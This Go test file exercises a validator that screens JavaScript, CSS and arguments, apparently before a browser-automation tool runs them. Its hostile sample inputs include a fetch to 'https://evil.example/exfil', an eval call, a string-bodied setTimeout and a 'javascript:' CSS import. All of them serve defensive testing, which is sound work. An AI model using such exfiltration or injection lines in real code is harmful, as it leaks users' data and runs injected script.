package action

import (
	"strings"
	"testing"
)

func TestValidateJSAcceptsBenignScript(t *testing.T) {
	v := ValidateJS(`(el) => { return el.textContent; }`)
	if !v.IsValid {
		t.Fatalf("expected valid, got issues: %+v", v.Issues)
	}
}

func TestValidateJSRejectsEval(t *testing.T) {
	v := ValidateJS(`() => { return eval("1+1"); }`)
	if v.IsValid {
		t.Fatal("expected eval() to be rejected")
	}
	found := false
	for _, i := range v.Issues {
		if i.Rule == "eval-call" && i.Severity == SeverityCritical {
			found = true
		}
	}
	if !found {
		t.Fatalf("expected an eval-call critical issue, got %+v", v.Issues)
	}
}

func TestValidateJSRejectsFetch(t *testing.T) {
	v := ValidateJS(`() => fetch('https://evil.example/exfil')`)
	if v.IsValid {
		t.Fatal("expected fetch() to be rejected")
	}
}

func TestValidateJSRejectsStringTimerBody(t *testing.T) {
	v := ValidateJS(`() => setTimeout("doEvil()", 100)`)
	if v.IsValid {
		t.Fatal("expected a string-bodied setTimeout to be rejected")
	}
}

func TestValidateJSDetectsUnbalancedBrackets(t *testing.T) {
	v := ValidateJS(`() => { return (1 + 2; }`)
	if v.IsValid {
		t.Fatal("expected unbalanced brackets to be rejected")
	}
}

func TestValidateJSDetectsUnterminatedString(t *testing.T) {
	v := ValidateJS(`() => { return "unterminated }`)
	if v.IsValid {
		t.Fatal("expected an unterminated string to be rejected")
	}
}

func TestValidateJSIgnoresBracketsInsideStrings(t *testing.T) {
	v := ValidateJS(`() => { return "(unbalanced"; }`)
	if !v.IsValid {
		t.Fatalf("expected brackets inside a string literal to be ignored, got %+v", v.Issues)
	}
}

func TestValidateJSRejectsExcessiveNesting(t *testing.T) {
	var b strings.Builder
	b.WriteString("() => {")
	for i := 0; i < 25; i++ {
		b.WriteString("if (true) {")
	}
	for i := 0; i < 25; i++ {
		b.WriteString("}")
	}
	b.WriteString("}")
	v := ValidateJS(b.String())
	if v.IsValid {
		t.Fatal("expected deep nesting to be rejected")
	}
}

func TestValidateJSRejectsOversizedScript(t *testing.T) {
	v := ValidateJS(`() => "` + strings.Repeat("a", defaultMaxJSBytes+1) + `"`)
	if v.IsValid {
		t.Fatal("expected an oversized script to be rejected")
	}
}

func TestValidateArgsRejectsTooMany(t *testing.T) {
	args := make([]interface{}, defaultMaxArgs+1)
	for i := range args {
		args[i] = i
	}
	v := ValidateArgs(args)
	if v.IsValid {
		t.Fatal("expected more than the max argument count to be rejected")
	}
}

func TestValidateArgsRejectsOversizedArgument(t *testing.T) {
	v := ValidateArgs([]interface{}{strings.Repeat("x", defaultMaxArgSerialized+1)})
	if v.IsValid {
		t.Fatal("expected an oversized argument to be rejected")
	}
}

func TestValidateArgsAcceptsPlainValues(t *testing.T) {
	v := ValidateArgs([]interface{}{1, "two", true, map[string]interface{}{"k": "v"}})
	if !v.IsValid {
		t.Fatalf("expected valid, got issues: %+v", v.Issues)
	}
}

func TestDeepCloneArgsProducesIndependentCopy(t *testing.T) {
	original := []interface{}{map[string]interface{}{"k": "v"}}
	cloned, err := DeepCloneArgs(original)
	if err != nil {
		t.Fatalf("DeepCloneArgs: %v", err)
	}
	clonedMap := cloned[0].(map[string]interface{})
	clonedMap["k"] = "mutated"
	originalMap := original[0].(map[string]interface{})
	if originalMap["k"] != "v" {
		t.Fatal("expected cloning to not mutate the original")
	}
}

func TestValidateCSSAcceptsBenignStylesheet(t *testing.T) {
	v := ValidateCSS(`.button { color: red; }`)
	if !v.IsValid {
		t.Fatalf("expected valid, got issues: %+v", v.Issues)
	}
}

func TestValidateCSSRejectsJavascriptImport(t *testing.T) {
	v := ValidateCSS(`@import url("javascript:alert(1)");`)
	if v.IsValid {
		t.Fatal("expected a javascript: @import to be rejected")
	}
}

func TestValidateCSSRejectsSelectorExplosion(t *testing.T) {
	var b strings.Builder
	for i := 0; i < defaultMaxSelectorsPerCSS+1; i++ {
		b.WriteString(".c{color:red}")
	}
	v := ValidateCSS(b.String())
	if v.IsValid {
		t.Fatal("expected selector explosion to be rejected")
	}
}

func TestValidateCSSRejectsOversizedStylesheet(t *testing.T) {
	v := ValidateCSS(`.c { content: "` + strings.Repeat("a", defaultMaxCSSBytes+1) + `"; }`)
	if v.IsValid {
		t.Fatal("expected an oversized stylesheet to be rejected")
	}
}

func TestConfigureAppliesCustomDenyPatternsAndLimits(t *testing.T) {
	t.Cleanup(func() { Configure(Limits{}) })

	if err := Configure(Limits{MaxJSBytes: 10, DenyPatternsJS: []string{`\bdisallowedCall\(`}}); err != nil {
		t.Fatalf("Configure: %v", err)
	}

	v := ValidateJS(`disallowedCall()`)
	if v.IsValid {
		t.Fatal("expected the configured deny pattern to reject the script")
	}
	found := false
	for _, i := range v.Issues {
		if i.Rule == "js-custom-deny" {
			found = true
		}
	}
	if !found {
		t.Fatalf("expected a js-custom-deny issue, got %+v", v.Issues)
	}

	v = ValidateJS(`() => { return 1; }`)
	sizeRejected := false
	for _, i := range v.Issues {
		if i.Rule == "js-size" {
			sizeRejected = true
		}
	}
	if !sizeRejected {
		t.Fatalf("expected the configured MaxJSBytes=10 to reject a longer benign script, got %+v", v.Issues)
	}
}

func TestConfigureRejectsInvalidPattern(t *testing.T) {
	t.Cleanup(func() { Configure(Limits{}) })
	if err := Configure(Limits{DenyPatternsJS: []string{"("}}); err == nil {
		t.Fatal("expected an invalid regexp to be rejected")
	}
}
